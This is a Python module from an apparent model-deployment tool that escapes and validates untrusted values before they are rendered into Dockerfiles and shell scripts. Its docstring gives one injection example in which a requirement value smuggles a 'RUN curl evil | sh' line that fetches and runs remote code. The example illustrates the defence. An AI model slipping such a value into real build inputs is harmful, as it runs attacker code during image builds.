"""Escaping and validation for every value that reaches a rendered file.

Why these exist: model metadata (MLmodel fields, requirement lines, flavor names, file names)
and user options (image tags, env vars) are untrusted text. A Dockerfile or shell script is a
program; one newline in a value turns data into an instruction (``numpy\\nRUN curl evil | sh``).
So values are never pasted raw into templates: each one passes through one of these filters,
which either returns a form that is inert in its target syntax or raises :class:`RenderError`.

The filters return :class:`Escaped` (a ``str`` subclass). The template environment refuses to
interpolate anything else (see :mod:`deployer.rendering.render`), so a template that forgets a
filter fails loudly instead of rendering an unescaped value.

Syntaxes covered:

* Dockerfile exec form (``CMD ["a", "b"]``): a JSON array of strings (``docker_json``).
* Dockerfile ENV/LABEL values: a double-quoted word in which ``\\``, ``"`` and ``$`` are
  escaped, because the Dockerfile parser expands ``$VAR`` there (``docker_str``).
* Dockerfile COPY paths: a conservative character set, no ``..``, no ``$`` (``docker_path``).
* POSIX shell: ``shlex.quote`` (``sh``).
* Image references, env var names, label keys, Azure resource names: validated grammars.

Error messages describe the rejected value by ``repr`` but are truncated, and callers pass
``secret=True`` for values that may hold credentials so the value is not echoed at all.
"""

from __future__ import annotations

import json
import re
import shlex
from collections.abc import Iterable

from deployer.errors import RenderError


class Escaped(str):
    """Text already made safe for the syntax it will be pasted into."""

    __slots__ = ()


# Control characters (C0 incl. newline/CR/tab, DEL, C1) and the Unicode line/paragraph
# separators: none belong in a single Dockerfile or shell token.
_CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]")
_ENV_NAME = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*$")
_LABEL_KEY = re.compile(r"^[a-z0-9]([a-z0-9.-]*[a-z0-9])?$")
_SAFE_PATH = re.compile(r"^/?[A-Za-z0-9._+@-]+(/[A-Za-z0-9._+@-]+)*/?$")
_AZURE_NAME = re.compile(r"^[A-Za-z][A-Za-z0-9-]{1,30}[A-Za-z0-9]$")
# Docker reference grammar (distribution/reference), simplified but strict:
# [host[:port]/]path-component(/path-component)*[:tag][@digest]
_LABEL = r"[A-Za-z0-9](?:[A-Za-z0-9-]*[A-Za-z0-9])?"
_REF_HOST = rf"(?:{_LABEL}(?:\.{_LABEL})*(?::[0-9]{{1,5}})?/)"
_REF_PATH = r"[a-z0-9]+(?:(?:[._]|__|-+)[a-z0-9]+)*(?:/[a-z0-9]+(?:(?:[._]|__|-+)[a-z0-9]+)*)*"
_REF_TAG = r"(?::[A-Za-z0-9_][A-Za-z0-9_.-]{0,127})"
_REF_DIGEST = r"(?:@sha256:[a-f0-9]{64})"
_IMAGE_REF = re.compile(rf"^{_REF_HOST}?{_REF_PATH}{_REF_TAG}?{_REF_DIGEST}?$")
# Names that suggest a credential: such values must be passed at run time, never baked in.
_SECRETISH = re.compile(
    r"(TOKEN|SECRET|PASSWORD|PASSWD|CREDENTIAL|API_?KEY|ACCESS_KEY|PRIVATE_KEY|AUTH)", re.I
)
_PROXY_VARS = {"http_proxy", "https_proxy", "ftp_proxy", "all_proxy", "no_proxy"}


def _show(value: object, secret: bool) -> str:
    if secret:
        return "(value hidden)"
    text = repr(value)
    return text if len(text) <= 80 else text[:77] + "...'"


def _require_text(value: object, what: str, *, secret: bool = False) -> str:
    if not isinstance(value, str):
        raise RenderError(
            f"{what} must be text, got {type(value).__name__} {_show(value, secret)}",
            fix="this is a bug in the caller: report it",
        )
    bad = _CONTROL.search(value)
    if bad:
        raise RenderError(
            f"{what} {_show(value, secret)} contains the control character {bad.group()!r}; "
            "newlines and control characters could inject instructions into a Dockerfile or "
            "script, so the value was not rendered",
            fix="remove line breaks and control characters from the value",
        )
    return value


def docker_json(argv: Iterable[str], what: str = "command") -> Escaped:
    """A Dockerfile exec-form array (``RUN``/``CMD``/``ENTRYPOINT``/``HEALTHCHECK CMD``).

    Exec form is parsed as JSON and never goes through a shell or variable expansion, so
    JSON-encoding each argument is a complete escape. Control characters are still refused
    (they are never meaningful in an argument we generate).
    """
    items = list(argv) if not isinstance(argv, str) else None
    if items is None or not items:
        raise RenderError(
            f"{what} must be a non-empty list of arguments, got {argv!r}",
            fix="this is a bug in the caller: report it",
        )
    for item in items:
        _require_text(item, f"{what} argument")
    return Escaped(json.dumps(items, ensure_ascii=False))


def docker_str(value: object, what: str = "value", *, secret: bool = False) -> Escaped:
    """A double-quoted Dockerfile word for ``ENV``/``LABEL``/``ARG`` values.

    The Dockerfile parser processes ``\\`` escapes and expands ``$VAR``/``${VAR}`` inside
    double quotes, so ``\\``, ``"`` and ``$`` are backslash-escaped. Line breaks are refused:
    a backslash-newline would continue the instruction onto the next line.
    """
    text = _require_text(value, what, secret=secret)
    escaped = text.replace("\\", "\\\\").replace('"', '\\"').replace("$", "\\$")
    return Escaped(f'"{escaped}"')


def docker_path(value: object, what: str = "path") -> Escaped:
    """A path for ``COPY``/``WORKDIR``, JSON-quoted.

    COPY expands ``$VAR`` even in its JSON form and treats ``*``/``?``/``[`` as globs, so
    instead of escaping, only a plain character set is accepted. deployer only renders paths
    it chose itself; anything else is a bug or an attack.
    """
    text = _require_text(value, what)
    if not _SAFE_PATH.match(text) or ".." in text.split("/"):
        raise RenderError(
            f"{what} {_show(text, False)} is not a plain path (allowed: letters, digits, '._+@-' "
            "and '/' separators; no '..', quotes, '$', globs or spaces)",
            fix="use a path made of plain characters",
        )
    return Escaped(json.dumps(text))


def bare_path(value: object, what: str = "path") -> Escaped:
    """A plain path pasted unquoted (``RUN --mount=...,target=PATH``): same rules as docker_path."""
    return Escaped(json.loads(docker_path(value, what)))


_USER_SPEC = re.compile(
    r"^[a-z_][a-z0-9_-]{0,31}(:[a-z_][a-z0-9_-]{0,31})?$|^[0-9]{1,10}(:[0-9]{1,10})?$"
)


def user_spec(value: object, what: str = "user") -> Escaped:
    """A ``USER`` argument: a name or uid, optionally ``:group`` (unquoted: USER takes no
    quotes)."""
    text = _require_text(value, what)
    if not _USER_SPEC.match(text):
        raise RenderError(
            f"{what} {text!r} is not a user name or uid[:gid]", fix="use e.g. '1000:1000' or 'root'"
        )
    return Escaped(text)


def sh(value: object, what: str = "value", *, secret: bool = False) -> Escaped:
    """One POSIX shell word (``shlex.quote``); control characters refused for readability."""
    if isinstance(value, int) and not isinstance(value, bool):
        value = str(value)
    text = _require_text(value, what, secret=secret)
    return Escaped(shlex.quote(text))


def json_str(value: object, what: str = "value") -> Escaped:
    """A JSON string literal (also a valid YAML 1.2 double-quoted scalar)."""
    return Escaped(json.dumps(_require_text(value, what), ensure_ascii=False))


def comment(value: object, what: str = "comment text") -> Escaped:
    """Text inside a ``#`` comment: any line break would end the comment, so none allowed."""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        value = str(value)
    return Escaped(_require_text(value, what))


def number(value: object, what: str = "number") -> Escaped:
    """A non-negative integer (ports, uids, intervals)."""
    if isinstance(value, bool) or not isinstance(value, int) or value < 0:
        raise RenderError(
            f"{what} must be a non-negative integer, got {value!r}",
            fix="this is a bug in the caller: report it",
        )
    return Escaped(str(value))


def check_image_ref(value: object, what: str = "image reference") -> str:
    """Validate a Docker image reference (``[host[:port]/]name[:tag][@sha256:...]``)."""
    text = _require_text(value, what)
    if len(text) > 255 or not _IMAGE_REF.match(text):
        raise RenderError(
            f"{what} {_show(text, False)} is not a valid image reference",
            fix="use e.g. 'python:3.11-slim', 'registry.example:5000/team/model:1.0' "
            "(lowercase repository, tag of letters/digits/'._-')",
        )
    return text


def image(value: object, what: str = "image reference") -> Escaped:
    """An image reference for ``FROM``/``COPY --from``: validated, then pasted bare."""
    return Escaped(check_image_ref(value, what))


def check_env_name(name: object) -> str:
    text = _require_text(name, "environment variable name")
    if not _ENV_NAME.match(text):
        raise RenderError(
            f"environment variable name {text!r} is not valid (letters, digits, '_'; not "
            "starting with a digit)",
            fix="rename the variable, e.g. MY_SETTING",
        )
    return text


def check_env_var(name: object, value: object) -> tuple[str, str]:
    """Validate an ``ENV`` entry baked into an image; refuse credentials and proxy settings.

    Anything baked with ``ENV`` is readable by everyone who can pull the image (and shows in
    ``docker history``), so names that look like secrets are refused outright.
    """
    key = check_env_name(name)
    if _SECRETISH.search(key) or key.lower() in _PROXY_VARS:
        raise RenderError(
            f"refusing to bake environment variable {key!r} into the image: it looks like a "
            "credential or proxy setting, and ENV values are visible to anyone with the image",
            fix=f"pass it when the container starts instead (docker run -e {key}=...)",
        )
    text = _require_text(value, f"value of {key}", secret=True)
    return key, text


def check_label_key(key: object) -> str:
    text = _require_text(key, "label key")
    if not _LABEL_KEY.match(text):
        raise RenderError(
            f"label key {text!r} is not valid (lowercase letters, digits, '.', '-')",
            fix="use a reverse-DNS key such as 'org.example.team'",
        )
    return text


def azure_name(value: object, what: str = "Azure ML name") -> Escaped:
    """An Azure ML endpoint/deployment name: 3-32 chars, letter first, letters/digits/'-'."""
    text = _require_text(value, what)
    if not _AZURE_NAME.match(text):
        raise RenderError(
            f"{what} {text!r} is not valid: Azure ML needs 3-32 characters, starting with a "
            "letter, made of letters, digits and '-', not ending with '-'",
            fix="pick a name like 'iris-endpoint'",
        )
    return Escaped(text)


def env_key(name: object) -> Escaped:
    """An ``ENV`` variable name (validated; names are never quoted in a Dockerfile)."""
    return Escaped(check_env_name(name))


def label_key(key: object) -> Escaped:
    """A ``LABEL`` key (validated reverse-DNS style key)."""
    return Escaped(check_label_key(key))


FILTERS = {
    "docker_json": docker_json,
    "docker_str": docker_str,
    "docker_path": docker_path,
    "bare_path": bare_path,
    "user_spec": user_spec,
    "sh": sh,
    "comment": comment,
    "json_str": json_str,
    "number": number,
    "image": image,
    "azure_name": azure_name,
    "env_key": env_key,
    "label_key": label_key,
}
